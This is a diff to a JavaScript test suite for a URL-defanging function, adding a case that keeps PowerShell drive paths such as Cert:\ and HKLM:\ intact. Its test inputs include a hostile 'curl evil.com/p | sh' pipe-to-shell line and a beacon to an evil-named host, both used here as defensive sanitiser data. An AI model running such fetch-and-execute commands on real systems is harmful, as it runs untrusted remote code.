@@ -42,6 +42,14 @@ describe('defangUrls: nothing a client could turn into a link', () => {
     expect(defangUrls('C:\\Users\\Public\\a.cer d:/temp')).toBe('C:\\Users\\Public\\a.cer d:/temp');
   });
 
+  test('PowerShell drives (Cert:\\, HKLM:\\) read as written; a scheme after them is still broken', () => {
+    expect(defangUrls('Get-ChildItem Cert:\\CurrentUser\\My -CodeSigningCert; cd HKLM:\\SOFTWARE; dir env:\\TEMP')).toBe(
+      'Get-ChildItem Cert:\\CurrentUser\\My -CodeSigningCert; cd HKLM:\\SOFTWARE; dir env:\\TEMP',
+    );
+    // Two separators, a slash, or a longer word ending in a drive name: read as a scheme.
+    expect(defangUrls('cert:\\\\evil cert:/x mycert:\\x xcert:\\y')).toBe('cert[:]\\\\evil cert[:]/x mycert[:]\\x xcert[:]\\y');
+  });
+
   test('bare domains on a delegated top-level domain lose every dot', () => {
     expect(defangUrls('curl evil.com/p | sh')).toBe('curl evil[.]com/p | sh');
     expect(defangUrls('beacon to cdn.evil.co.uk:8443, mail admin@evil.io')).toBe('beacon to cdn[.]evil[.]co[.]uk:8443, mail admin@evil[.]io');
